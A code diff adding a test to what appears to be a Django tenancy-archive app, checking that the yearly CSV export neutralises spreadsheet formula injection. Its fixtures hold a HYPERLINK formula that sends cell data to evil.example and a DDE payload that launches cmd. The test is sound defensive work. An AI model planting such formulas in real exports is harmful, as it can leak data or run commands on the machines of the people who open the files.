@@ -139,3 +139,28 @@ def test_a_notice_to_a_floor_reaches_each_unit_file(tenancy, archivist):
     deliveries = NoticeDelivery.objects.filter(notice=notice)
     assert set(deliveries.values_list("unit_id", flat=True)) == {tenancy.unit_id, other.unit_id}
     assert deliveries.get(unit=tenancy.unit).tenancy == tenancy
+
+
+def test_the_yearly_index_csv_writes_hostile_names_as_inert_text(client, tenancy, desk, archivist):
+    import csv
+    import io
+
+    tenancy.company_name = '=HYPERLINK("http://evil.example/?"&C3,"x")'
+    tenancy.save(update_fields=["company_name"])
+    services.document_file(
+        unit=tenancy.unit,
+        upload=pdf(),
+        title="-2+3+cmd|' /C calc'!A0",
+        category="move_in",
+        dated=tenancy.move_in,
+        kind="original",
+        by=desk,
+    )
+    services.tenancy_end(tenancy=tenancy, move_out=date(2025, 12, 31), by=archivist)
+    services.yearly_archive_compile(year=2025)
+    client.force_login(archivist)
+    response = client.get("/archives/yearly/2025/", {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][2] == "'" + '=HYPERLINK("http://evil.example/?"&C3,"x")'
+    assert rows[1][4] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows[1][5] == "2025-01-01", "dates are left as they are"
